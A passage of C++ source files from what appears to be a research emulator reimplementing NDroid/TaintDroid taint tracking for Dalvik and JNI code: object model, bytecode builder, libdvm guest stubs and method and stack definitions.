                          throw GuestFault("StringOps.length: null argument");
                        }
                        const u32 len = static_cast<u32>(
                            dvm.heap().read_string(*s).size());
                        return Slot{len, visible_taint(args[0])};
                      });

  dvm_.define_builtin(
      string_ops, "valueOf", "LI", kAccPublic | kAccStatic,
      [](dvm::Dvm& dvm, std::vector<Slot>& args) {
        dvm::Object* out = dvm.new_string(
            std::to_string(static_cast<i32>(args[0].value)));
        if (dvm.policy().propagate_java) {
          dvm.heap().set_object_taint(*out, args[0].taint);
        }
        return Slot{out->addr(), args[0].taint};
      });
}

}  // namespace ndroid::taintdroid
