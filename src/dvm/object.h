// Dalvik object model with TaintDroid taint storage.
//
// Taint storage rules (paper §II-B "Taint Storage"):
//  * ArrayObject and StringObject (an array of chars) carry one taint label
//    *in the object*;
//  * class static fields and instance fields store taint labels interleaved
//    with the variables in the Class/Object instance data area;
//  * other objects are tracked through the taint of their references.
//
// Every object also has a *guest address* (its "real object address" / direct
// pointer) with payload bytes materialised in the dalvik-heap guest region —
// NDroid's logs identify objects by these addresses (paper Fig. 6:
// "dvmCreateStringFromCstr return 0x412a3320"), and the moving GC changes
// them (which is why JNI hands out indirect references, §II-A).
#pragma once

#include <functional>
#include <memory>
#include <string>
#include <vector>

#include "common/types.h"

namespace ndroid::dvm {

class ClassObject;
struct Method;

enum class ObjKind : u8 { kString, kArray, kInstance };

/// One register-sized value plus its TaintDroid taint label (the interleaved
/// pair of paper Fig. 1).
struct Slot {
  u32 value = 0;
  Taint taint = kTaintClear;
};

class Object {
 public:
  Object(ObjKind kind, ClassObject* clazz) : kind_(kind), clazz_(clazz) {}

  [[nodiscard]] ObjKind kind() const { return kind_; }
  [[nodiscard]] ClassObject* clazz() const { return clazz_; }

  /// Direct pointer (guest address of the payload); changes under GC.
  [[nodiscard]] GuestAddr addr() const { return addr_; }
  void set_addr(GuestAddr addr) { addr_ = addr; }

  /// Object-level taint label (arrays/strings per TaintDroid).
  [[nodiscard]] Taint taint() const { return taint_; }
  void set_taint(Taint t) { taint_ = t; }
  void add_taint(Taint t) { taint_ |= t; }

  // --- String ------------------------------------------------------------
  [[nodiscard]] const std::string& utf() const { return utf_; }
  void set_utf(std::string s) { utf_ = std::move(s); }

  // --- Array -------------------------------------------------------------
  [[nodiscard]] u32 length() const { return length_; }
  [[nodiscard]] u32 elem_size() const { return elem_size_; }
  [[nodiscard]] bool elems_are_refs() const { return elems_are_refs_; }
  void init_array(u32 length, u32 elem_size, bool refs) {
    length_ = length;
    elem_size_ = elem_size;
    elems_are_refs_ = refs;
  }

  // --- Instance fields (interleaved value/taint slots) --------------------
  std::vector<Slot>& fields() { return fields_; }
  [[nodiscard]] const std::vector<Slot>& fields() const { return fields_; }

  /// Payload byte size in the guest heap.
  [[nodiscard]] u32 payload_size() const;

 private:
  ObjKind kind_;
  ClassObject* clazz_;
  GuestAddr addr_ = 0;
  Taint taint_ = kTaintClear;
  std::string utf_;
  u32 length_ = 0;
  u32 elem_size_ = 0;
  bool elems_are_refs_ = false;
  std::vector<Slot> fields_;
};

struct Field {
  std::string name;
  char type = 'I';  // shorty char: I Z B S C F L
  u32 index = 0;    // slot index within instance data / static area
};

class ClassObject {
 public:
  explicit ClassObject(std::string descriptor)
      : descriptor_(std::move(descriptor)) {}

  [[nodiscard]] const std::string& descriptor() const { return descriptor_; }

  Field& add_instance_field(std::string name, char type);
  Field& add_static_field(std::string name, char type);
  [[nodiscard]] const Field* find_instance_field(std::string_view name) const;
  [[nodiscard]] const Field* find_static_field(std::string_view name) const;

  [[nodiscard]] u32 instance_field_count() const {
    return static_cast<u32>(ifields_.size());
  }

  /// Static field storage (interleaved value/taint, like instance data).
  std::vector<Slot>& statics() { return statics_; }

  void add_method(std::unique_ptr<Method> m);
  [[nodiscard]] Method* find_method(std::string_view name) const;
  [[nodiscard]] const std::vector<std::unique_ptr<Method>>& methods() const {
    return methods_;
  }

 private:
  std::string descriptor_;
  std::vector<Field> ifields_;
  std::vector<Field> sfields_;
  std::vector<Slot> statics_;
  std::vector<std::unique_ptr<Method>> methods_;
};

}  // namespace ndroid::dvm
