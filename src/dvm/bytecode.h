// Dalvik-like register-based bytecode.
//
// A representative subset of the Dalvik instruction set, enough to express
// the paper's scenario apps and the CF-Bench Java workloads, with the
// instruction classes TaintDroid's propagation rules distinguish: moves,
// constants, arithmetic, array/field accesses, invokes, and branches.
#pragma once

#include <string>
#include <vector>

#include "common/types.h"

namespace ndroid::dvm {

struct Method;
class ClassObject;

enum class DOp : u8 {
  kNop,
  kMove,         // vA = vB
  kMoveResult,   // vA = retval (and its taint, from InterpSaveState)
  kReturnVoid,
  kReturn,       // retval = vA
  kConst,        // vA = imm        (clears taint)
  kConstString,  // vA = new String(str)
  kNewInstance,  // vA = new cls()
  kNewArray,     // vA = new type[vB]
  kArrayLength,  // vA = vB.length
  kAget,         // vA = vB[vC]     taint: t(vA) = t(array) | t(vC)
  kAput,         // vB[vC] = vA     taint: t(array) |= t(vA)
  kIget,         // vA = vB.field   (field index in `idx`)
  kIput,         // vB.field = vA
  kSget,         // vA = cls.static[idx]
  kSput,         // cls.static[idx] = vA
  kAdd,          // vA = vB + vC    taint: union
  kSub,
  kMul,
  kDiv,
  kRem,
  kAnd,
  kOr,
  kXor,
  kShl,
  kShr,
  kAddFloat,     // float ops reinterpret the 32-bit slots
  kMulFloat,
  kDivFloat,
  kAddImm,       // vA = vB + imm
  kIfEq,         // if (vA == vB) goto target
  kIfNe,
  kIfLt,
  kIfGe,
  kIfEqz,        // if (vA == 0) goto target
  kIfNez,
  kGoto,
  kInvoke,       // invoke method with args; result to InterpSaveState
  kMoveException,  // vA = pending exception object
};

/// One decoded Dalvik-like instruction. Fields are used per-op as commented
/// above; unused fields stay zero.
struct DInsn {
  DOp op = DOp::kNop;
  u16 a = 0;
  u16 b = 0;
  u16 c = 0;
  i32 imm = 0;
  i32 target = 0;                // branch target (instruction index)
  u32 idx = 0;                   // field/static index
  const Method* method = nullptr;  // kInvoke callee
  ClassObject* cls = nullptr;      // kNewInstance / kSget / kSput
  std::string str;                 // kConstString literal
  std::vector<u16> args;           // kInvoke argument registers
};

/// Tiny builder so scenario code reads like a dex listing.
class CodeBuilder {
 public:
  CodeBuilder& nop() { return emit({.op = DOp::kNop}); }
  CodeBuilder& move(u16 a, u16 b) { return emit({.op = DOp::kMove, .a = a, .b = b}); }
  CodeBuilder& move_result(u16 a) { return emit({.op = DOp::kMoveResult, .a = a}); }
  CodeBuilder& return_void() { return emit({.op = DOp::kReturnVoid}); }
  CodeBuilder& return_value(u16 a) { return emit({.op = DOp::kReturn, .a = a}); }
  CodeBuilder& const_imm(u16 a, i32 imm) {
    return emit({.op = DOp::kConst, .a = a, .imm = imm});
  }
  CodeBuilder& const_string(u16 a, std::string s) {
    DInsn insn{.op = DOp::kConstString, .a = a};
    insn.str = std::move(s);
    return emit(std::move(insn));
  }
  CodeBuilder& new_instance(u16 a, ClassObject* cls) {
    return emit({.op = DOp::kNewInstance, .a = a, .cls = cls});
  }
  CodeBuilder& new_array(u16 a, u16 len_reg, u32 elem_size, bool refs) {
    return emit({.op = DOp::kNewArray, .a = a, .b = len_reg,
                 .imm = static_cast<i32>(elem_size), .idx = refs ? 1u : 0u});
  }
  CodeBuilder& array_length(u16 a, u16 b) {
    return emit({.op = DOp::kArrayLength, .a = a, .b = b});
  }
  CodeBuilder& aget(u16 a, u16 arr, u16 idx) {
    return emit({.op = DOp::kAget, .a = a, .b = arr, .c = idx});
  }
  CodeBuilder& aput(u16 src, u16 arr, u16 idx) {
    return emit({.op = DOp::kAput, .a = src, .b = arr, .c = idx});
  }
  CodeBuilder& iget(u16 a, u16 obj, u32 field_idx) {
    return emit({.op = DOp::kIget, .a = a, .b = obj, .idx = field_idx});
  }
  CodeBuilder& iput(u16 src, u16 obj, u32 field_idx) {
    return emit({.op = DOp::kIput, .a = src, .b = obj, .idx = field_idx});
  }
  CodeBuilder& sget(u16 a, ClassObject* cls, u32 idx) {
    return emit({.op = DOp::kSget, .a = a, .idx = idx, .cls = cls});
  }
  CodeBuilder& sput(u16 src, ClassObject* cls, u32 idx) {
    return emit({.op = DOp::kSput, .a = src, .idx = idx, .cls = cls});
  }
  CodeBuilder& binop(DOp op, u16 a, u16 b, u16 c) {
    return emit({.op = op, .a = a, .b = b, .c = c});
  }
  CodeBuilder& add(u16 a, u16 b, u16 c) { return binop(DOp::kAdd, a, b, c); }
  CodeBuilder& sub(u16 a, u16 b, u16 c) { return binop(DOp::kSub, a, b, c); }
  CodeBuilder& mul(u16 a, u16 b, u16 c) { return binop(DOp::kMul, a, b, c); }
  CodeBuilder& add_imm(u16 a, u16 b, i32 imm) {
    return emit({.op = DOp::kAddImm, .a = a, .b = b, .imm = imm});
  }
  CodeBuilder& if_op(DOp op, u16 a, u16 b, i32 target) {
    return emit({.op = op, .a = a, .b = b, .target = target});
  }
  CodeBuilder& if_eqz(u16 a, i32 target) {
    return emit({.op = DOp::kIfEqz, .a = a, .target = target});
  }
  CodeBuilder& if_nez(u16 a, i32 target) {
    return emit({.op = DOp::kIfNez, .a = a, .target = target});
  }
  CodeBuilder& goto_(i32 target) {
    return emit({.op = DOp::kGoto, .target = target});
  }
  CodeBuilder& invoke(const Method* m, std::vector<u16> args) {
    DInsn insn{.op = DOp::kInvoke, .method = m};
    insn.args = std::move(args);
    return emit(std::move(insn));
  }
  CodeBuilder& move_exception(u16 a) {
    return emit({.op = DOp::kMoveException, .a = a});
  }

  /// Index the next emitted instruction will get (for branch targets).
  [[nodiscard]] i32 here() const { return static_cast<i32>(code_.size()); }

  [[nodiscard]] std::vector<DInsn> take() { return std::move(code_); }

 private:
  CodeBuilder& emit(DInsn insn) {
    code_.push_back(std::move(insn));
    return *this;
  }
  std::vector<DInsn> code_;
};

}  // namespace ndroid::dvm
