#include "dvm/dvm.h"

#include "arm/assembler.h"

namespace ndroid::dvm {

namespace {
// Field-id guest layout: [class mirror][field index][type char][is_static].
constexpr u32 kFidClass = 0;
constexpr u32 kFidIndex = 4;
constexpr u32 kFidType = 8;
constexpr u32 kFidStatic = 12;
constexpr u32 kFidSize = 16;
}  // namespace

Dvm::Dvm(arm::Cpu& cpu, GuestAddr libdvm_base, u32 libdvm_size,
         GuestAddr heap_base, u32 heap_size, GuestAddr stack_base,
         u32 stack_size)
    : cpu_(cpu),
      heap_(cpu.memory(), heap_base, heap_size),
      stack_(cpu.memory(), stack_base, stack_size) {
  cpu_.memmap().add("libdvm.so", libdvm_base, libdvm_size, mem::kRWX);
  cpu_.memmap().add("[dalvik-heap]", heap_base, heap_size, mem::kRW);
  cpu_.memmap().add("[dalvik-stack]", stack_base, stack_size, mem::kRW);

  build_stubs(libdvm_base, libdvm_size);
  thread_self_addr_ = data_alloc(32);
  string_class_ = define_class("Ljava/lang/String;");
}

// ---------------------------------------------------------------------------
// Guest stubs. Each libdvm function is a tiny guest routine that calls a C++
// helper; internal calls between libdvm functions happen at guest level so
// multilevel hooking sees the full branch chain (paper Fig. 5).
// ---------------------------------------------------------------------------

void Dvm::build_stubs(GuestAddr base, u32 size) {
  stub_bump_ = base;
  stub_end_ = base + 0x8000;
  data_bump_ = base + 0x8000;
  data_end_ = base + size;

  const GuestAddr h_jni = cpu_.register_helper_auto(
      [this](arm::Cpu& c) { helper_call_jni_method(c); });
  const GuestAddr h_prep_v = cpu_.register_helper_auto(
      [this](arm::Cpu& c) { helper_call_method_prepare(c, 'V'); });
  const GuestAddr h_prep_a = cpu_.register_helper_auto(
      [this](arm::Cpu& c) { helper_call_method_prepare(c, 'A'); });
  const GuestAddr h_interp = cpu_.register_helper_auto(
      [this](arm::Cpu& c) { helper_interpret(c); });
  const GuestAddr h_finish = cpu_.register_helper_auto(
      [this](arm::Cpu& c) { helper_call_method_finish(c); });

  auto simple_stub = [&](const std::string& name, GuestAddr helper) {
    arm::Assembler a(0);
    a.push({arm::LR});
    a.call(helper);
    a.pop({arm::PC});
    const auto code = a.finish();
    return stub_alloc(name, code);
  };

  simple_stub("dvmCallJNIMethod", h_jni);

  // dvmInterpret must exist before dvmCallMethod* so their stubs can call it.
  const GuestAddr interp_addr = simple_stub("dvmInterpret", h_interp);

  auto call_method_stub_body = [&](const std::string& name, GuestAddr prep) {
    arm::Assembler a(0);
    a.push({arm::R(4), arm::LR});
    a.mov(arm::R(4), arm::R(0));  // save Method*
    a.call(prep);                 // returns frame in r0
    a.mov(arm::R(1), arm::R(0));  // r1 = frame
    a.mov(arm::R(0), arm::R(4));  // r0 = Method*
    a.call(interp_addr);
    a.call(h_finish);
    a.pop({arm::R(4), arm::PC});
    const auto code = a.finish();
    return stub_alloc(name, code);
  };
  call_method_stub_body("dvmCallMethodV", h_prep_v);
  call_method_stub_body("dvmCallMethodA", h_prep_a);

  // Memory allocation functions (MAF, Table III).
  const GuestAddr h_alloc_object =
      cpu_.register_helper_auto([this](arm::Cpu& c) {
        ClassObject* cls = class_at(c.state().regs[0]);
        Object* obj = heap_.new_instance(cls);
        c.state().regs[0] = obj->addr();
      });
  const GuestAddr h_string_cstr =
      cpu_.register_helper_auto([this](arm::Cpu& c) {
        const std::string s = c.memory().read_cstr(c.state().regs[0]);
        Object* obj = heap_.new_string(string_class_, s);
        c.state().regs[0] = obj->addr();
      });
  const GuestAddr h_string_unicode =
      cpu_.register_helper_auto([this](arm::Cpu& c) {
        const GuestAddr chars = c.state().regs[0];
        const u32 len = c.state().regs[1];
        std::string s;
        s.reserve(len);
        for (u32 i = 0; i < len; ++i) {
          s.push_back(static_cast<char>(c.memory().read16(chars + 2 * i)));
        }
        Object* obj = heap_.new_string(string_class_, std::move(s));
        c.state().regs[0] = obj->addr();
      });
  const GuestAddr h_alloc_array_class =
      cpu_.register_helper_auto([this](arm::Cpu& c) {
        ClassObject* cls = class_at(c.state().regs[0]);
        Object* obj = heap_.new_array(cls, c.state().regs[1], 4, true);
        c.state().regs[0] = obj->addr();
      });
  const GuestAddr h_alloc_prim_array =
      cpu_.register_helper_auto([this](arm::Cpu& c) {
        const u32 elem_size = c.state().regs[0];
        const u32 len = c.state().regs[1];
        Object* obj = heap_.new_array(nullptr, len, elem_size, false);
        c.state().regs[0] = obj->addr();
      });
  const GuestAddr h_decode_iref =
      cpu_.register_helper_auto([this](arm::Cpu& c) {
        const u32 ref = c.state().regs[0];
        c.state().regs[0] = ref == 0 ? 0 : irt_.decode(ref)->addr();
      });

  simple_stub("dvmAllocObject", h_alloc_object);
  simple_stub("dvmCreateStringFromCstr", h_string_cstr);
  simple_stub("dvmCreateStringFromUnicode", h_string_unicode);
  simple_stub("dvmAllocArrayByClass", h_alloc_array_class);
  simple_stub("dvmAllocPrimitiveArray", h_alloc_prim_array);
  simple_stub("dvmDecodeIndirectRef", h_decode_iref);
}

GuestAddr Dvm::stub_alloc(const std::string& name,
                          std::span<const u8> code) {
  const GuestAddr addr = stub_bump_;
  if (addr + code.size() > stub_end_) {
    throw GuestFault("libdvm stub space exhausted");
  }
  cpu_.memory().write_bytes(addr, code);
  stub_bump_ += (static_cast<u32>(code.size()) + 3) & ~3u;
  symbols_[name] = addr;
  return addr;
}

GuestAddr Dvm::data_alloc(u32 size) {
  const GuestAddr addr = data_bump_;
  data_bump_ += (size + 3) & ~3u;
  if (data_bump_ > data_end_) throw GuestFault("libdvm data space exhausted");
  return addr;
}

GuestAddr Dvm::data_cstr(std::string_view s) {
  const GuestAddr addr = data_alloc(static_cast<u32>(s.size()) + 1);
  cpu_.memory().write_cstr(addr, s);
  return addr;
}

GuestAddr Dvm::sym(const std::string& name) const {
  auto it = symbols_.find(name);
  if (it == symbols_.end()) throw GuestFault("no libdvm symbol: " + name);
  return it->second;
}

GuestAddr Dvm::call_method_stub(char kind) const {
  return sym(kind == 'A' ? "dvmCallMethodA" : "dvmCallMethodV");
}

// ---------------------------------------------------------------------------
// Classes, methods, fields
// ---------------------------------------------------------------------------

ClassObject* Dvm::define_class(const std::string& descriptor) {
  auto it = classes_.find(descriptor);
  if (it != classes_.end()) return it->second.get();
  auto cls = std::make_unique<ClassObject>(descriptor);
  ClassObject* raw = cls.get();
  classes_[descriptor] = std::move(cls);

  const GuestAddr mirror = data_alloc(8);
  cpu_.memory().write32(mirror, data_cstr(descriptor));
  cpu_.memory().write32(mirror + 4, 0);
  class_by_mirror_[mirror] = raw;
  mirror_by_class_[raw] = mirror;
  return raw;
}

ClassObject* Dvm::find_class(std::string_view descriptor) const {
  auto it = classes_.find(std::string(descriptor));
  return it == classes_.end() ? nullptr : it->second.get();
}

ClassObject* Dvm::class_at(GuestAddr mirror) const {
  auto it = class_by_mirror_.find(mirror);
  if (it == class_by_mirror_.end()) {
    throw GuestFault("bad jclass handle 0x" + std::to_string(mirror));
  }
  return it->second;
}

GuestAddr Dvm::class_mirror(const ClassObject* cls) const {
  auto it = mirror_by_class_.find(cls);
  if (it == mirror_by_class_.end()) throw GuestFault("unregistered class");
  return it->second;
}

GuestAddr Dvm::materialise_method(Method& m) {
  const GuestAddr addr = data_alloc(GuestMethodLayout::kSize);
  auto& mem = cpu_.memory();
  mem.write32(addr + GuestMethodLayout::kInsns, m.native_addr);
  mem.write32(addr + GuestMethodLayout::kShorty, data_cstr(m.shorty));
  mem.write32(addr + GuestMethodLayout::kName, data_cstr(m.name));
  mem.write32(addr + GuestMethodLayout::kClassDesc,
              data_cstr(m.clazz->descriptor()));
  mem.write32(addr + GuestMethodLayout::kAccessFlags, m.access_flags);
  mem.write32(addr + GuestMethodLayout::kRegistersSize, m.registers_size);
  mem.write32(addr + GuestMethodLayout::kInsSize, m.ins_size);
  return addr;
}

void Dvm::register_method(ClassObject* cls, std::unique_ptr<Method> m) {
  m->clazz = cls;
  m->guest_addr = materialise_method(*m);
  method_by_guest_[m->guest_addr] = m.get();
  cls->add_method(std::move(m));
}

Method* Dvm::define_method(ClassObject* cls, std::string name,
                           std::string shorty, u32 access_flags,
                           u16 registers_size, std::vector<DInsn> code) {
  auto m = std::make_unique<Method>();
  m->name = std::move(name);
  m->shorty = std::move(shorty);
  m->access_flags = access_flags;
  m->clazz = cls;
  m->registers_size = registers_size;
  m->ins_size = m->arg_count();
  m->code = std::move(code);
  Method* raw = m.get();
  register_method(cls, std::move(m));
  return raw;
}

Method* Dvm::define_native(ClassObject* cls, std::string name,
                           std::string shorty, u32 access_flags,
                           GuestAddr native_addr) {
  auto m = std::make_unique<Method>();
  m->name = std::move(name);
  m->shorty = std::move(shorty);
  m->access_flags = access_flags | kAccNative;
  m->clazz = cls;
  m->native_addr = native_addr;
  m->registers_size = m->ins_size = m->arg_count();
  Method* raw = m.get();
  register_method(cls, std::move(m));
  return raw;
}

Method* Dvm::define_builtin(ClassObject* cls, std::string name,
                            std::string shorty, u32 access_flags,
                            std::function<Slot(Dvm&, std::vector<Slot>&)> fn) {
  auto m = std::make_unique<Method>();
  m->name = std::move(name);
  m->shorty = std::move(shorty);
  m->access_flags = access_flags;
  m->clazz = cls;
  m->builtin = std::move(fn);
  m->registers_size = m->ins_size = m->arg_count();
  Method* raw = m.get();
  register_method(cls, std::move(m));
  return raw;
}

Method* Dvm::method_at(GuestAddr guest_method) const {
  auto it = method_by_guest_.find(guest_method);
  if (it == method_by_guest_.end()) {
    throw GuestFault("bad jmethodID 0x" + std::to_string(guest_method));
  }
  return it->second;
}

std::vector<const Method*> Dvm::native_methods() const {
  std::vector<const Method*> out;
  for (const auto& [guest, m] : method_by_guest_) {
    if (m->is_native() && m->native_addr != 0) out.push_back(m);
  }
  return out;
}

GuestAddr Dvm::field_id(ClassObject* cls, std::string_view name,
                        bool is_static) {
  const std::string key =
      cls->descriptor() + "/" + std::string(name) + (is_static ? "#s" : "#i");
  if (auto it = field_id_cache_.find(key); it != field_id_cache_.end()) {
    return it->second;
  }
  const Field* f = is_static ? cls->find_static_field(name)
                             : cls->find_instance_field(name);
  if (f == nullptr) {
    throw GuestFault("no such field: " + key);
  }
  const GuestAddr fid = data_alloc(kFidSize);
  auto& mem = cpu_.memory();
  mem.write32(fid + kFidClass, class_mirror(cls));
  mem.write32(fid + kFidIndex, f->index);
  mem.write32(fid + kFidType, static_cast<u32>(f->type));
  mem.write32(fid + kFidStatic, is_static ? 1 : 0);
  field_ids_[fid] = FieldRef{cls, f, is_static};
  field_id_cache_[key] = fid;
  return fid;
}

Dvm::FieldRef Dvm::decode_field_id(GuestAddr fid) const {
  auto it = field_ids_.find(fid);
  if (it == field_ids_.end()) {
    throw GuestFault("bad jfieldID 0x" + std::to_string(fid));
  }
  return it->second;
}

// ---------------------------------------------------------------------------
// Execution
// ---------------------------------------------------------------------------

Slot Dvm::call(const Method& method, std::vector<Slot> args) {
  if (args.size() != method.arg_count()) {
    throw GuestFault("arity mismatch calling " + method.name);
  }
  if (method.is_builtin()) {
    Slot ret = method.builtin(*this, args);
    if (!policy_.propagate_java) ret.taint = kTaintClear;
    retval_ = ret;
    return ret;
  }
  if (method.is_native()) {
    retval_ = invoke_native(method, args);
    return retval_;
  }
  const GuestAddr fp = stack_.push_frame(method);
  const u16 first_in = method.registers_size - method.ins_size;
  for (u32 i = 0; i < args.size(); ++i) {
    stack_.set_reg(fp, static_cast<u16>(first_in + i), args[i].value,
                   policy_.propagate_java ? args[i].taint : kTaintClear);
  }
  interpret(method, fp);
  stack_.pop_frame();
  return retval_;
}

Slot Dvm::invoke_native(const Method& method, const std::vector<Slot>& args) {
  const u32 n = method.arg_count();
  const GuestAddr outs = stack_.push_outs(n);
  for (u32 i = 0; i < n; ++i) {
    cpu_.memory().write32(outs + 8 * i, args[i].value);
    cpu_.memory().write32(outs + 8 * i + 4,
                          policy_.propagate_java ? args[i].taint
                                                 : kTaintClear);
  }
  // JValue scratch, allocated once and reused: the guest stub only writes
  // the result right before returning and the caller reads it immediately
  // after, so strictly-nested (LIFO, single-threaded) native calls can
  // share one slot — a per-call data_alloc would leak the arena dry on
  // long benchmark runs.
  if (jvalue_scratch_ == 0) jvalue_scratch_ = data_alloc(8);
  const GuestAddr result_addr = jvalue_scratch_;
  cpu_.call_function(
      sym("dvmCallJNIMethod"),
      {outs, result_addr, method.guest_addr, thread_self_addr_});
  Slot ret;
  ret.value = cpu_.memory().read32(result_addr);
  ret.taint = cpu_.memory().read32(outs + 8 * n);
  stack_.pop_outs(n);
  return ret;
}

// dvmCallJNIMethod(const u4* args, JValue* pResult, const Method* method,
//                  Thread* self) — paper Listing 2.
void Dvm::helper_call_jni_method(arm::Cpu& cpu) {
  auto& regs = cpu.state().regs;
  const GuestAddr args_area = regs[0];
  const GuestAddr result_addr = regs[1];
  const Method* method = method_at(regs[2]);

  const u32 n = method->arg_count();
  std::vector<Slot> slots(n);
  Taint arg_union = kTaintClear;
  for (u32 i = 0; i < n; ++i) {
    slots[i].value = cpu.memory().read32(args_area + 8 * i);
    slots[i].taint = cpu.memory().read32(args_area + 8 * i + 4);
    arg_union |= slots[i].taint;
  }

  // Marshal to the JNI native ABI: (JNIEnv*, jobject|jclass, params...).
  // Object parameters become indirect references (Android >= 4.0, §II-A).
  std::vector<u32> jni_args;
  jni_args.push_back(jnienv_addr_);
  u32 slot_idx = 0;
  if (method->is_static()) {
    jni_args.push_back(class_mirror(method->clazz));
  } else {
    Object* receiver = heap_.object_at(slots[0].value);
    jni_args.push_back(receiver ? irt_.add(receiver) : 0);
    slot_idx = 1;
  }
  for (u32 p = 1; p < method->shorty.size(); ++p, ++slot_idx) {
    const u32 raw = slots[slot_idx].value;
    if (method->shorty[p] == 'L' && raw != 0) {
      Object* obj = heap_.object_at(raw);
      jni_args.push_back(obj ? irt_.add(obj) : 0);
    } else {
      jni_args.push_back(raw);
    }
  }

  const u32 native_ret = cpu.call_function(method->native_addr, jni_args);

  // Write JValue: object returns arrive as indirect references and are
  // stored as direct pointers on the Java side.
  u32 result = native_ret;
  if (method->return_type() == 'L' && native_ret != 0) {
    result = irt_.decode(native_ret)->addr();
  }
  cpu.memory().write32(result_addr, result);

  // TaintDroid's JNI return policy (§IV): taint the return value iff any
  // parameter was tainted. NDroid's bridge-exit hook may OR in the taint it
  // tracked through the native code.
  const Taint rtaint =
      policy_.jni_ret_union && policy_.propagate_java ? arg_union
                                                      : kTaintClear;
  cpu.memory().write32(args_area + 8 * n, rtaint);
  cpu.state().regs[0] = result;
}

// dvmCallMethodV/A prologue: decode indirect refs, allocate + populate the
// DVM frame (taint slots cleared — the under-tainting NDroid repairs), and
// record the pending call for dvmInterpret.
void Dvm::helper_call_method_prepare(arm::Cpu& cpu, char kind) {
  (void)kind;  // V and A share a layout in this ABI (array of u4 jvalues)
  auto& regs = cpu.state().regs;
  const Method* method = method_at(regs[0]);
  const u32 receiver_iref = regs[1];
  const GuestAddr result_addr = regs[2];
  const GuestAddr args_ptr = regs[3];

  if (method->is_native()) {
    throw GuestFault("dvmCallMethod* on a native method is unsupported");
  }

  const GuestAddr fp = stack_.push_frame(*method);
  const u16 first_in = method->registers_size - method->ins_size;
  u16 reg = first_in;
  if (!method->is_static()) {
    Object* receiver =
        receiver_iref == 0 ? nullptr : irt_.decode(receiver_iref);
    stack_.set_reg_value(fp, reg++, receiver ? receiver->addr() : 0);
  }
  for (u32 p = 1; p < method->shorty.size(); ++p) {
    const u32 raw = cpu.memory().read32(args_ptr + 4 * (p - 1));
    u32 value = raw;
    if (method->shorty[p] == 'L' && raw != 0) {
      value = irt_.decode(raw)->addr();  // dvmDecodeIndirectRef
    }
    stack_.set_reg_value(fp, reg++, value);
    // Taint slots were cleared by push_frame — exactly the information loss
    // the paper describes; NDroid's dvmInterpret hook restores them.
  }

  pending_calls_.push_back(PendingJavaCall{method, fp, result_addr});
  cpu.state().regs[0] = fp;
}

void Dvm::helper_interpret(arm::Cpu& cpu) {
  const Method* method = method_at(cpu.state().regs[0]);
  const GuestAddr fp = cpu.state().regs[1];
  if (method->is_builtin()) {
    std::vector<Slot> args(method->arg_count());
    const u16 first_in = method->registers_size - method->ins_size;
    for (u32 i = 0; i < args.size(); ++i) {
      args[i].value = stack_.reg_value(fp, static_cast<u16>(first_in + i));
      args[i].taint = stack_.reg_taint(fp, static_cast<u16>(first_in + i));
    }
    Slot ret = method->builtin(*this, args);
    if (!policy_.propagate_java) ret.taint = kTaintClear;
    retval_ = ret;
    return;
  }
  interpret(*method, fp);
}

void Dvm::helper_call_method_finish(arm::Cpu& cpu) {
  if (pending_calls_.empty()) {
    throw GuestFault("dvmCallMethod finish with no pending call");
  }
  const PendingJavaCall pending = pending_calls_.back();
  pending_calls_.pop_back();
  stack_.pop_frame();
  if (pending.result_addr != 0) {
    cpu.memory().write32(pending.result_addr, retval_.value);
  }
  cpu.state().regs[0] = retval_.value;
}

}  // namespace ndroid::dvm
