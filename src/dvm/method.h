// Dalvik method descriptor.
//
// Mirrors the fields NDroid reads out of the guest Method struct when it
// hooks dvmCallJNIMethod (paper §V-B): "we identify the method_address,
// access_flag, and method_shorty through the third parameter of
// dvmCallJNIMethod, which points to the structure Method."
#pragma once

#include <functional>
#include <string>
#include <vector>

#include "dvm/bytecode.h"
#include "dvm/object.h"

namespace ndroid::dvm {

class ClassObject;
class Dvm;
struct Frame;

inline constexpr u32 kAccPublic = 0x0001;
inline constexpr u32 kAccStatic = 0x0008;
inline constexpr u32 kAccNative = 0x0100;

struct Method {
  std::string name;
  /// Dalvik shorty: return type first, then parameter types
  /// (e.g. makeLoginRequestPackageMd5 has shorty "IILLLLLLLLII", Fig. 6).
  std::string shorty;
  ClassObject* clazz = nullptr;
  u32 access_flags = kAccPublic;

  /// Interpreted methods: bytecode plus register file geometry. Registers
  /// [registers_size - ins_size, registers_size) hold the incoming args.
  std::vector<DInsn> code;
  u16 registers_size = 0;
  u16 ins_size = 0;

  /// Native methods: guest entry point (bit 0 selects Thumb).
  GuestAddr native_addr = 0;

  /// Framework methods implemented in the host (sources/sinks/utilities);
  /// receives the argument slots and writes the return slot.
  std::function<Slot(Dvm&, std::vector<Slot>&)> builtin;

  /// Guest address of this method's materialised Method struct (assigned by
  /// the Dvm when the class is registered).
  GuestAddr guest_addr = 0;

  [[nodiscard]] bool is_native() const {
    return (access_flags & kAccNative) != 0;
  }
  [[nodiscard]] bool is_static() const {
    return (access_flags & kAccStatic) != 0;
  }
  [[nodiscard]] bool is_builtin() const { return static_cast<bool>(builtin); }

  /// Number of argument registers: params plus `this` for non-static.
  [[nodiscard]] u16 arg_count() const {
    return static_cast<u16>(shorty.size() - 1 + (is_static() ? 0 : 1));
  }
  [[nodiscard]] char return_type() const { return shorty.empty() ? 'V' : shorty[0]; }
};

}  // namespace ndroid::dvm
