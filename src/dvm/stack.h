// The TaintDroid-modified interpreted stack (paper Fig. 1).
//
// Frames live in a guest region so NDroid can read and write taints through
// guest memory — in Fig. 9 NDroid "adds taint to new method frame slot at
// address 0x44bf8c14". Layout per frame, growing downward:
//
//     [ StackSaveArea: prev_fp, method guest ptr ]   (caller bookkeeping)
//     [ v0 value ][ v0 taint ]                        <- fp points here
//     [ v1 value ][ v1 taint ]
//     ...
//
// Register vN's value is at fp + 8*N, its taint tag at fp + 8*N + 4 — the
// "taint labels interleaved with variables" storage of TaintDroid. The
// caller's outs area for native calls (interleaved args + appended return
// taint slot) is allocated here too.
#pragma once

#include "mem/address_space.h"

namespace ndroid::dvm {

struct Method;

class DvmStack {
 public:
  static constexpr u32 kSaveAreaSize = 16;  // prev_fp, method ptr, prev_sp

  DvmStack(mem::AddressSpace& memory, GuestAddr base, u32 size)
      : memory_(memory), bottom_(base), top_(base + size), sp_(base + size) {}

  /// Pushes a frame for `method`; returns the frame pointer (address of v0).
  GuestAddr push_frame(const Method& method);
  void pop_frame();

  /// Allocates a native-call outs area: n interleaved (value, taint) pairs
  /// plus one appended return-taint slot (paper §II-B: "the return value's
